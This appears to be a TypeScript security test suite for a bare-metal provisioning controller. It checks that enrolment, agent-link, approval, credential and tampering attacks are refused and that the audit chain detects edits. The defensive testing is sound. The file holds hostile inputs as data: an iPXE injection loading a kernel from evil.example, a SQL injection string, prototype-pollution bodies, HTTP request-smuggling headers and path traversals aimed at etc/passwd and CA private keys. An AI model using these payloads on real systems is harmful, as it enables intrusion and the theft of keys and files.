// Attacks from outside on a running region, as one table: what is tried, and how it must end. Each entry gets the world below
// and answers how it was answered; after each of them the world must be as it was.
import { createPublicKey, randomUUID } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect as connectTcp } from 'node:net';
import { text as readText } from 'node:stream/consumers';
import { join } from 'node:path';
import Sqlite from 'better-sqlite3';
import { Packr } from 'msgpackr';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { newCertificateRequest } from '../../agent/identity/certificate-request.ts';
import { verifyCommand, type CommandTarget } from '../../agent/handlers/verify-command.ts';
import { createClient, type Client } from '../../client/sdk/client.ts';
import { openRegionCa } from '../../controller/crypto/region-ca.ts';
import { strongRng } from '../../controller/strong-rng.ts';
import { operations } from '../../shared/api/operations.ts';
import { systemClock } from '../../shared/clock.ts';
import { messageOf, PpecError } from '../../shared/errors.ts';
import { closeNameOf } from '../../shared/protocol/close-codes.ts';
import { createMachine, machineSpec, type Machine } from '../integration/machine.ts';
import { assetInState, furnish, startTestRegion, type PersonName, type Region } from '../integration/region.ts';
import { differences, witnessOf, type Witness } from '../fuzz/witness.ts';
import { bootToken, caOf, enrol, enrolled, helloOf, member, openLink, type Identity } from './peer.ts';

/** `spare` is a SPARE, `live` runs production; `owned` is a machine that the attacker holds. */
type World = {
  readonly region: Region;
  readonly ca: string;
  readonly spare: Machine;
  readonly live: Machine;
  readonly owned: Identity;
  /** A change that Max has filed and that waits; Max is maker and checker. */
  readonly change: { readonly id: string; readonly payloadSha256: string };
};
type Attack = {
  readonly name: string;
  /** How it was answered, in one line. */
  readonly attempt: (world: World) => Promise<string>;
  readonly stoppedBy: RegExp;
};

const packr = new Packr({ useRecords: false, moreTypes: false, int64AsType: 'number' });
const attackerMac = '52:54:00:66:66:66';
let world: World;
let before: Witness;

beforeAll(async () => {
  const region = await startTestRegion();
  await furnish(region, ['SPARE-1', 'LIVE-1'], machineSpec);
  const spare = createMachine(region, 'SPARE-1');
  const live = createMachine(region, 'LIVE-1');
  await Promise.all([spare.boot(), live.boot()]);
  await Promise.all([assetInState(region, 'SPARE-1', 'SPARE'), assetInState(region, 'LIVE-1', 'SPARE')]);
  const asked = { image: 'test-os', project: 'p', reason: 'for the test' };
  const first = await region.client('mia').call('asset.provision', { ...asked, assets: ['LIVE-1'] });
  await region.client('cho').call('change.approve', { change: first.id, payloadSha256: first.payloadSha256 });
  await assetInState(region, 'LIVE-1', 'BAREMETAL');
  const change = await region.client('max').call('asset.provision', { ...asked, assets: ['SPARE-1'] });
  world = {
    region,
    ca: await caOf(region),
    spare,
    live,
    owned: await enrolled(region, 'ROGUE-1', attackerMac),
    change,
  };
  before = witnessOf(region);
}, 180_000);
afterAll(async () => {
  await world.spare[Symbol.asyncDispose]();
  await world.live[Symbol.asyncDispose]();
  await world.region[Symbol.asyncDispose]();
});

const enrolling: readonly Attack[] = [
  {
    name: 'replay a boot token that was used',
    attempt: ({ region, spare }) => enrolment(region, { token: spare.token(), serial: 'SPARE-1', macs: [spare.mac] }),
    stoppedBy: /^401 .*used already/,
  },
  {
    name: 'use the boot token of another machine',
    attempt: async ({ region }) => enrolment(region, { token: await bootToken(region, '52:54:00:66:00:01'), macs: [attackerMac] }),
    stoppedBy: /^401 .*belongs to 52:54:00:66:00:01/,
  },
  {
    name: 'make up a boot token',
    attempt: ({ region }) => enrolment(region, { token: 'A'.repeat(43) }),
    stoppedBy: /^401 .*not known/,
  },
  {
    name: 'enrol a production system with a boot token',
    attempt: async ({ region }) => enrolment(region, { token: await bootToken(region, attackerMac), macs: [attackerMac], home: 'production' }),
    stoppedBy: /^401 .*for PIOUS/,
  },
  {
    name: 'enrol with a certificate request that was made for another token',
    attempt: async ({ region }) => enrolment(region, { token: await bootToken(region, attackerMac), macs: [attackerMac], boundTo: 'another' }),
    stoppedBy: /^401 .*bound to another token/,
  },
  {
    name: 'enrol with a key that one does not hold',
    attempt: async ({ region }) => {
      const token = await bootToken(region, attackerMac);
      const request = newCertificateRequest(token).der;
      // The last byte is of the signature.
      request.writeUInt8(request.readUInt8(request.length - 1) ^ 1, request.length - 1);
      return enrolment(region, { token, macs: [attackerMac], csr: request.toString('base64') });
    },
    stoppedBy: /^401 .*not signed by it/,
  },
  {
    name: 'claim the serial of a machine that is alive',
    attempt: async ({ region }) => enrolment(region, { token: await bootToken(region, attackerMac), macs: [attackerMac], serial: 'SPARE-1' }),
    stoppedBy: /^409 .*alive in another boot/,
  },
  {
    name: 'claim the serial of a machine in production from a network boot',
    attempt: async ({ region, live }) => {
      const token = await bootToken(region, attackerMac);
      const bootId = (await region.client('vic').call('asset.get', { asset: live.serial })).bootId ?? '';
      return enrolment(region, { token, macs: [attackerMac], serial: 'LIVE-1', bootId });
    },
    stoppedBy: /^409 .*enrols from its production system/,
  },
  {
    name: 'be given a boot script of PIOUS for a machine in production',
    attempt: async ({ region, live }) => (await fetch(`${region.bootUrl}/boot/script?mac=${live.mac}&serial=LIVE-1`)).text(),
    stoppedBy: /^#!ipxe\necho PPEC: this machine is in production[^\n]*\nexit\n$/,
  },
  {
    name: 'write lines into a boot script by the parameters',
    attempt: async ({ region }) => {
      const inject = encodeURIComponent('x\nkernel http://evil.example/k\n');
      const scripts = await Promise.all(
        [`mac=${inject}`, `mac=${attackerMac}&serial=${inject}&uuid=${inject}`].map(async (query) =>
          (await fetch(`${region.bootUrl}/boot/script?${query}`)).text(),
        ),
      );
      return scripts.some((text) => text.includes('evil')) ? 'written' : 'nothing of it is in the script';
    },
    stoppedBy: /^nothing of it/,
  },
]; // prettier-ignore

const linking: readonly Attack[] = [
  {
    name: 'open a link without a certificate',
    attempt: ({ region, ca }) => linkClosed(region, { ca, cert: '', key: '' }, []),
    stoppedBy: /401|handshake|required/,
  },
  {
    name: 'open a link with a certificate of a CA of the same name',
    attempt: async ({ region, ca, owned }) => {
      const folder = join(region.dir, 'forged');
      mkdirSync(folder);
      const common = { folder, region: 'test-1', hosts: [], agentLifeMs: 60_000, clock: systemClock, rng: strongRng };
      const forgery = await openRegionCa(common);
      const { privateKeyPem } = newCertificateRequest('');
      const publicKeyPem = createPublicKey(privateKeyPem).export({ type: 'spki', format: 'pem' }).toString();
      const { certificate } = await forgery.issueAgent(owned.assetId, publicKeyPem);
      return linkClosed(region, { ca, cert: certificate, key: privateKeyPem }, []);
    },
    stoppedBy: /401/,
  },
  {
    name: 'speak for another machine with a certificate of one’s own',
    attempt: async ({ region, owned }) => {
      const victim = await region.client('vic').call('asset.get', { asset: 'SPARE-1' });
      const hello = helloOf({ ...owned, assetId: victim.id, bootId: victim.bootId ?? '' });
      return linkClosed(region, owned, [packr.pack(['hello', 1, hello])]);
    },
    stoppedBy: /^identityMismatch/,
  },
  {
    name: 'use a stolen certificate in another boot',
    attempt: ({ region, owned }) => linkClosed(region, owned, [packr.pack(['hello', 1, helloOf({ ...owned, bootId: randomUUID() })])]),
    stoppedBy: /^unknownAsset/,
  },
  {
    name: 'use a stolen certificate on another machine',
    attempt: ({ region, owned }) => {
      const hardware = { serial: 'THIEF-1', uuid: '', macs: ['52:54:00:66:00:99'] };
      return linkClosed(region, owned, [packr.pack(['hello', 1, helloOf({ ...owned, hardware })])]);
    },
    stoppedBy: /^hardwareMismatch/,
  },
  {
    name: 'use a certificate after it was revoked',
    attempt: async ({ region }) => {
      const rogue = await enrolled(region, 'REVOKED-1', '52:54:00:66:00:08');
      await region.client('ada').call('asset.revoke-identity', { asset: rogue.assetId, reason: 'its disk was stolen' });
      return linkClosed(region, rogue, [packr.pack(['hello', 1, helloOf(rogue)])]);
    },
    stoppedBy: /401/,
  },
  {
    name: 'end the command of another machine',
    attempt: async ({ region, owned }) => {
      const [row] = rowsOf(region, "select id, state, outcome, message from commands where state = 'ended' limit 1");
      const told = { commandId: String(Reflect.get(row ?? {}, 'id')), outcome: 'failed', message: 'forged', durationMs: 1 };
      const link = await openLink(region, owned);
      link.socket.send(packr.pack(['hello', 1, helloOf(owned)]));
      link.socket.send(packr.pack(['command-result', 2, told]));
      // The next frame is taken after this one.
      link.socket.send(packr.pack(['nonsense', 3, {}]));
      await link.closed;
      return JSON.stringify(rowsOf(region, 'select * from commands')).includes('forged') ? 'taken' : 'nothing was written';
    },
    stoppedBy: /^nothing was written/,
  },
  {
    name: 'alter a command in flight, at any byte',
    attempt: ({ region }) => {
      const { envelope, target } = signedCommand(region);
      const good = verifyCommand(envelope, target);
      if (!good.ok) return Promise.resolve(`the command itself is refused: ${good.reason}`);
      const taken = [...envelope.bytes.keys()].filter(
        (at) => verifyCommand({ ...envelope, bytes: envelope.bytes.map((byte, index) => (index === at ? byte ^ 0x20 : byte)) }, target).ok,
      );
      return Promise.resolve(`${taken.length} of ${envelope.bytes.length} alterations are taken`);
    },
    stoppedBy: /^0 of \d{3,}/,
  },
  {
    name: 'send a command again, to another machine, in another boot, later',
    attempt: ({ region }) => {
      const { envelope, target } = signedCommand(region);
      const others: Partial<CommandTarget>[] = [
        { highestGeneration: target.highestGeneration + 1 }, { assetId: 'ast_other' }, { serial: 'SPARE-1' }, { bootId: randomUUID() },
        { nowMs: target.nowMs + 10 * 86_400_000 }, { commandKeys: [] }, { region: 'elsewhere' },
      ];
      return Promise.resolve(others.map((other) => String(verifyCommand(envelope, { ...target, ...other }).ok)).join(' '));
    },
    stoppedBy: /^false( false)*$/,
  },
]; // prettier-ignore

const approving: readonly Attack[] = [
  {
    name: 'approve one’s own change',
    attempt: ({ region, change }) => outcome(region.client('max').call('change.approve', { change: change.id, payloadSha256: change.payloadSha256 })),
    stoppedBy: /^permission_denied: .*different person/,
  },
  {
    name: 'approve one’s own change by another credential',
    attempt: async ({ region, change }) => {
      const { credential, secret } = await region.client('max').call('credential.create', { label: 'second', limits: { roles: ['approver'] } });
      const second = clientWith(region, { id: credential.id, secret });
      return outcome(second.call('change.approve', { change: change.id, payloadSha256: change.payloadSha256 }));
    },
    stoppedBy: /^permission_denied: .*different person/,
  },
  {
    name: 'have something else approved than what was shown',
    attempt: ({ region, change }) => outcome(region.client('cho').call('change.approve', { change: change.id, payloadSha256: 'f'.repeat(64) })),
    stoppedBy: /^conflict: /,
  },
  {
    name: 'approve without the right',
    attempt: ({ region, change }) => outcome(region.client('mia').call('change.approve', { change: change.id, payloadSha256: change.payloadSha256 })),
    stoppedBy: /^permission_denied: .*change\.approve/,
  },
  {
    name: 'provision without asking anybody',
    attempt: async ({ region }) => {
      const before = await region.client('vic').call('operation.list', { limit: 100 });
      await outcome(region.client('cho').call('asset.provision', { assets: ['SPARE-1'], image: 'test-os', project: 'p', reason: 'for the test' }));
      const after = await region.client('vic').call('operation.list', { limit: 100 });
      return `${after.items.length - before.items.length} operations begun`;
    },
    stoppedBy: /^0 operations/,
  },
]; // prettier-ignore

const signingIn: readonly Attack[] = [
  {
    name: 'call every operation without a credential',
    attempt: async ({ region }) => {
      const statuses = await Promise.all(operations.map(({ method, path }) => rawStatus(region, { method, path: path.replaceAll(/:\w+/g, 'x') })));
      return [...new Set(statuses)].join(' ');
    },
    stoppedBy: /^401$/,
  },
  ...([
    ['a wrong secret', ({ id }) => ({ id, secret: 'A'.repeat(43) })],
    ['a secret that is cut', ({ id, secret }) => ({ id, secret: secret.slice(0, -1) })],
    ['the secret of another', ({ id }, other) => ({ id, secret: other.secret })],
    ['an id that is a query', ({ secret }) => ({ id: "' or '1'='1", secret })],
    ['the hash of a secret in its place', ({ id }) => ({ id, secret: '0'.repeat(64) })],
  ] satisfies [string, (mine: Pair, other: Pair) => Pair][]).map(([what, pair]): Attack => ({
    name: `sign in with ${what}`,
    attempt: ({ region }) => outcome(clientWith(region, pair(region.credential('ada'), region.credential('vic'))).call('auth.whoami', {})),
    stoppedBy: /^unauthenticated/,
  })),
  {
    name: 'use a credential that was revoked',
    attempt: async ({ region }) => {
      const { credential, secret } = await region.client('vic').call('credential.create', { label: 'short' });
      const client = clientWith(region, { id: credential.id, secret });
      const good = await outcome(client.call('auth.whoami', {}));
      await region.client('vic').call('credential.revoke', { credential: credential.id });
      return `${good}, then ${await outcome(client.call('auth.whoami', {}))}`;
    },
    stoppedBy: /^taken, then unauthenticated/,
  },
  {
    name: 'use a credential whose time is over',
    attempt: async ({ region }) => {
      const { credential, secret } = await region.client('vic').call('credential.create', { label: 'ended', expiresInDays: 1 });
      // What a day does, done to the row: nobody can wait for it here.
      writeRows(region, `update credentials set expires_at = 1 where id = '${credential.id}'`);
      return outcome(clientWith(region, { id: credential.id, secret }).call('auth.whoami', {}));
    },
    stoppedBy: /^unauthenticated/,
  },
  {
    name: 'as an administrator, make a link to sign in as a maker',
    attempt: ({ region }) => outcome(region.client('ada').call('person.set-up', { person: 'mia' })),
    stoppedBy: /^failed_precondition: .*second person must agree/,
  },
  {
    name: 'as an administrator, make a credential of a checker',
    attempt: ({ region }) => outcome(region.client('ada').call('credential.create', { label: 'mine', person: 'cho' })),
    stoppedBy: /^permission_denied/,
  },
  {
    name: 'make a credential with more rights than one has',
    attempt: ({ region }) => outcome(region.client('vic').call('credential.create', { label: 'more', limits: { roles: ['admin'] } })),
    stoppedBy: /^permission_denied/,
  },
  {
    name: 'be answered what another got by an idempotency key',
    attempt: async ({ region }) => {
      const key = { 'idempotency-key': 'shared-key' };
      const body = JSON.stringify({ label: 'mine' });
      const mine = await raw(region, { method: 'POST', path: '/v1/credentials', as: 'ada', headers: key, body });
      const theirs = await raw(region, { method: 'POST', path: '/v1/credentials', as: 'vic', headers: key, body });
      const secret = /"secret":"([^"]+)"/.exec(mine.text)?.[1] ?? 'none';
      return theirs.text.includes(secret) ? 'the secret of another' : 'only one’s own';
    },
    stoppedBy: /^only one’s own/,
  },
  {
    name: 'slip members past the schema by a prototype or a second name',
    attempt: async ({ region }) => {
      const bodies = ['{"__proto__":{"roles":["admin"]},"label":"x"}', '{"label":"x","label":"y"}', '{"label":"x","constructor":{"prototype":{"a":1}}}'];
      const answers = await Promise.all(bodies.map((body) => raw(region, { method: 'POST', path: '/v1/credentials', as: 'vic', body })));
      return answers.map(({ status }) => status).join(' ');
    },
    stoppedBy: /^400 400 400$/,
  },
]; // prettier-ignore

const tampering: readonly Attack[] = [
  {
    name: 'import an image whose manifest was changed after signing',
    attempt: ({ region }) => {
      const manifest = region.image.manifest.replace('"version":"1"', '"version":"2"');
      return outcome(region.client('ada').call('image.import', { manifest, signature: region.image.signature, keyId: 'images-test' }));
    },
    stoppedBy: /signature/,
  },
  {
    name: 'upload content under the digest of other content',
    attempt: async ({ region }) => {
      const path = join(region.dir, 'other.blob');
      writeFileSync(path, 'something else');
      return outcome(region.client('ada').uploadBlob('c'.repeat(64), path, { bytes: 14 }));
    },
    stoppedBy: /^invalid_argument: .*digest/,
  },
  {
    name: 'read files of the controller by paths',
    attempt: async ({ region }) => {
      const texts: string[] = [];
      for (const path of traversals()) {
        texts.push(await rawBoot(region, path), (await raw(region, { method: 'GET', path, as: 'ada' })).text);
      }
      const leaks = texts.filter((text) => /PRIVATE KEY|root:x:0|"name": ?"(?:ppec|@fastify)|SQLite format|dataDirectory/.test(text));
      return `${leaks.length} leaks of ${texts.length}`;
    },
    stoppedBy: /^0 leaks of \d{2,}/,
  },
  {
    name: 'read a file beside the console logs by a serial that walks',
    attempt: async ({ region }) => {
      mkdirSync(region.consoleDir, { recursive: true });
      writeFileSync(join(region.dir, 'secret.log'), 'TOP-SECRET');
      const rogue = await enrolled(region, '../secret', '52:54:00:66:00:07');
      return outcome(
        region.client('vic').call('asset.console', { asset: rogue.assetId }).then((found) => {
          if (JSON.stringify(found).includes('TOP-SECRET')) return;
          throw new PpecError('not_found', 'nothing of it');
        }),
      );
    },
    stoppedBy: /^not_found/,
  },
  {
    name: 'smuggle a second request behind the first',
    attempt: async ({ region }) => {
      const second = 'GET /v1/whoami HTTP/1.1\r\nhost: x\r\n\r\n';
      const heads = [
        `content-length: 5\r\ntransfer-encoding: chunked`, `transfer-encoding: chunked\r\ncontent-length: 5`, `content-length: 0\r\ncontent-length: ${second.length}`,
        `content-length: +0`, `transfer-encoding : chunked`, `transfer-encoding: xchunked`, `transfer-encoding: chunked\r\ntransfer-encoding: identity`, `content-length: 0 ${second.length}`,
      ];
      const { port } = new URL(region.bootUrl);
      const answers = await Promise.all(
        heads.flatMap((head) => {
          const text = `POST /v1/credentials HTTP/1.1\r\nhost: x\r\n${head}\r\n\r\n0\r\n\r\n${second}`;
          return [sendRaw({ path: join(region.dir, 'api.sock') }, text), sendRaw({ host: '127.0.0.1', port: Number(port) }, text)];
        }),
      );
      // One refusal each, and the connection closed: the second request is never answered.
      return [...new Set(answers.map((text) => [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map((match) => match[1]).join('+')))].join(' ');
    },
    stoppedBy: /^400$/,
  },
]; // prettier-ignore

describe.each([
  ['enrolment', enrolling],
  ['the agent link', linking],
  ['maker and checker', approving],
  ['credentials', signingIn],
  ['what is stored and served', tampering],
])('an attack on %s', (_what, attacks) => {
  it.each(attacks.map((attack) => [attack.name, attack] as const))(
    'fails: %s',
    async (_name, { attempt, stoppedBy }) => {
      expect(await attempt(world)).toMatch(stoppedBy);
      expect(differences(before, witnessOf(world.region), world.region)).toEqual([]);
      expect((await world.region.client('vic').call('asset.get', { asset: 'SPARE-1' })).state).toBe('SPARE');
    },
  );
});

describe('after all of them', () => {
  it('the claims of live identities are alerts, and the refusals are in the audit', async () => {
    const { items } = await world.region.client('vic').call('event.list', { limit: 1000 });
    expect(items.filter(({ kind }) => kind === 'alert').length).toBeGreaterThan(0);
    const audit = await world.region.client('ada').call('audit.list', { limit: 1000 });
    const refused = new Set(
      audit.items.filter((entry) => entry.outcome === 'refused').map(({ operation }) => operation),
    );
    expect([...refused]).toEqual(expect.arrayContaining(['agent.enrol', 'change.approve', 'credential.create']));
    expect(await world.region.client('ada').call('audit.verify', {})).toMatchObject({ ok: true });
  });

  it.each<[string, string]>([
    [
      'an entry is edited',
      "update audit set message = 'nothing happened' where seq = (select max(seq) - 3 from audit)",
    ],
    [
      'an entry is edited together with its hash',
      "update audit set message = 'x', hash = lower(hex(randomblob(32))) where seq = (select max(seq) - 3 from audit)",
    ],
    ['an entry is removed', 'delete from audit where seq = (select max(seq) - 3 from audit)'],
    [
      'two entries change places',
      'update audit set seq = case seq when 5 then -6 when 6 then -5 end where seq in (5, 6); update audit set seq = -seq where seq < 0',
    ],
    [
      'an entry is put in',
      'create temp table forged as select * from audit where seq = 4; update forged set seq = (select max(seq) + 1 from audit); insert into audit select * from forged',
    ],
  ])('the audit shows it when %s', async (_case, statement) => {
    const copy = join(world.region.dir, `copy-${randomUUID()}.db`);
    const source = new Sqlite(join(world.region.dir, 'data/ppec.db'), { readonly: true });
    await source.backup(copy);
    source.close();
    const { genesisHash, verifyChain } = await import('../../controller/store/audit-chain.ts');
    const { auditView } = await import('../../controller/store/records.ts');
    const { openDatabase } = await import('../../controller/store/database.ts');
    const verified = async (): Promise<boolean> => {
      const db = await openDatabase(copy);
      const rows = await db.selectFrom('audit').selectAll().orderBy('seq').execute();
      await db.destroy();
      return verifyChain({ seq: 0, hash: genesisHash }, rows.map(auditView)).ok;
    };
    expect(await verified()).toBe(true);
    const file = new Sqlite(copy);
    file.exec(statement);
    file.close();
    expect(await verified()).toBe(false);
  });
});

type Pair = { readonly id: string; readonly secret: string };

async function enrolment(region: Region, claim: Parameters<typeof enrol>[1]): Promise<string> {
  const { status, body } = await enrol(region, claim);
  return `${status} ${member(body, 'detail')}`;
}

/** Opens a link, sends frames; answers by which code it was closed, or why it was not opened. */
async function linkClosed(
  region: Region,
  identity: Pick<Identity, 'ca' | 'cert' | 'key'>,
  frames: readonly Uint8Array[],
): Promise<string> {
  try {
    const link = await openLink(region, identity);
    for (const frame of frames) link.socket.send(frame);
    const code = await link.closed;
    return closeNameOf(code) ?? String(code);
  } catch (error) {
    return messageOf(error);
  }
}

async function outcome(call: Promise<unknown>): Promise<string> {
  return call.then(
    () => 'taken',
    (error: unknown) => (error instanceof PpecError ? `${error.code}: ${error.message}` : String(error)),
  );
}

function clientWith(region: Region, credential: Pair): Client {
  return createClient({ url: `unix:${join(region.dir, 'api.sock')}`, credential });
}

function rowsOf(region: Region, query: string): unknown[] {
  const file = new Sqlite(join(region.dir, 'data/ppec.db'), { readonly: true });
  try {
    return file.prepare(query).all();
  } finally {
    file.close();
  }
}

function writeRows(region: Region, statement: string): void {
  const file = new Sqlite(join(region.dir, 'data/ppec.db'));
  file.exec(statement);
  file.close();
}

/** A command that the region did sign for LIVE-1, and the machine that would take it. */
function signedCommand(region: Region): { envelope: Parameters<typeof verifyCommand>[0]; target: CommandTarget } {
  const [row] = rowsOf(region, 'select bytes, signature, key_id from commands order by generation limit 1');
  const column = (name: string): unknown => Reflect.get(row ?? {}, name);
  const [bytes, signature] = [column('bytes'), column('signature')];
  if (!Buffer.isBuffer(bytes) || !Buffer.isBuffer(signature)) throw new Error('no command was signed');
  const command: unknown = packr.unpack(bytes);
  const of = (name: string): unknown => Reflect.get(Object(command), name);
  const keyPem = readFileSync(join(region.dir, 'data/keys/command-key.pem'));
  return {
    envelope: { bytes: new Uint8Array(bytes), signature: new Uint8Array(signature), keyId: String(column('key_id')) },
    target: {
      region: String(of('region')),
      assetId: String(of('assetId')),
      serial: String(of('assetSerial')),
      bootId: String(of('bootId')),
      nowMs: Number(of('notBeforeMs')),
      highestGeneration: Number(of('generation')) - 1,
      commandKeys: [
        {
          keyId: String(column('key_id')),
          publicKeyPem: createPublicKey(keyPem).export({ type: 'spki', format: 'pem' }).toString(),
          notBeforeMs: 0,
          notAfterMs: null,
        },
      ],
    },
  };
}

type Raw = {
  readonly method: string;
  readonly path: string;
  readonly as?: PersonName;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
};

/** Over the Unix socket, where no budget of an address stands before what is tried. */
function raw(region: Region, { method, path, as, headers = {}, body }: Raw): Promise<{ status: number; text: string }> {
  const credential = as === undefined ? undefined : region.credential(as);
  return new Promise((resolve, reject) => {
    const sent = request(
      {
        socketPath: join(region.dir, 'api.sock'),
        method,
        path,
        ...(credential === undefined ? {} : { auth: `${credential.id}:${credential.secret}` }),
        headers: { ...headers, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      },
      (response) => {
        readText(response).then((text) => resolve({ status: response.statusCode ?? 0, text }), reject);
      },
    );
    sent.once('error', reject);
    sent.end(body);
  });
}

async function rawStatus(region: Region, what: Raw): Promise<number> {
  return (await raw(region, what)).status;
}

function rawBoot(region: Region, path: string): Promise<string> {
  return sendRaw(
    { host: '127.0.0.1', port: Number(new URL(region.bootUrl).port) },
    `GET ${path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`,
  );
}

async function sendRaw(to: { path: string } | { host: string; port: number }, text: string): Promise<string> {
  const socket = connectTcp(to);
  let heard = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => (heard += chunk));
  socket.on('error', () => undefined);
  socket.end(text);
  await new Promise((resolve) => socket.once('close', resolve));
  return heard;
}

function traversals(): string[] {
  const steps = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '....//',
    '..;/',
    '%252e%252e/',
    '..%c0%af',
    '.%00./',
    '%ff../',
  ];
  const roots = ['/boot/images/', '/boot/pious/', '/boot/tools/', '/docs/static/', '/docs/', '/v1/blobs/', '/'];
  const files = ['etc/passwd', 'controller.yaml', 'data/keys/ca-key.pem', 'data/ppec.db', 'package.json'];
  return roots.flatMap((root) => steps.flatMap((step) => files.map((file) => `${root}${step.repeat(5)}${file}`)));
}
